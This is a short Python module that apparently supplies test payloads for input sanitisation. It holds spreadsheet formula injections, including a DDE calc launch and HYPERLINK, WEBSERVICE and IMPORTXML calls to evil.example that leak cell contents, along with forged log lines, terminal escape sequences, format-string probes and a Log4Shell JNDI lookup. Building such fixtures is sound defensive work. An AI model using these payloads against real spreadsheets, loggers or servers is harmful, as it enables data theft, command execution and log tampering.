"""A hundred texts with an effect if anything interprets them."""

from __future__ import annotations

_COMMANDS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?x="&A1,"click")',
    'IMPORTXML("http://evil.example","//a")',
    'WEBSERVICE("http://evil.example")',
    "SUM(A1:A9)",
    'IMAGE("http://evil.example/x.png")',
)
_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufeff=", '"=', "'=", "\u200b=")
FORMULAS = [f"{start}{command}" for start in _STARTS for command in _COMMANDS]

LINES = [
    "x\r\nERROR forged: all is lost",
    "x\nINFO admin logged in",
    "x\rCRITICAL forged",
    "x\x1b[2Jcleared",
    "x\x1b]0;title\x07",
    "x\x85forged",
    "x\u2028forged",
    "x\u2029forged",
    "%s%s%n",
    "${jndi:ldap://evil.example/a}",
    "{0.__class__}",
    "%(message)s",
    "x\x0bforged",
    "x\x0cforged",
    "x\u202egnihtemos",
    "x;=1+1",
]
PAYLOADS = [*FORMULAS, *LINES]
"""Formulas, forged log lines, and terminal control sequences."""
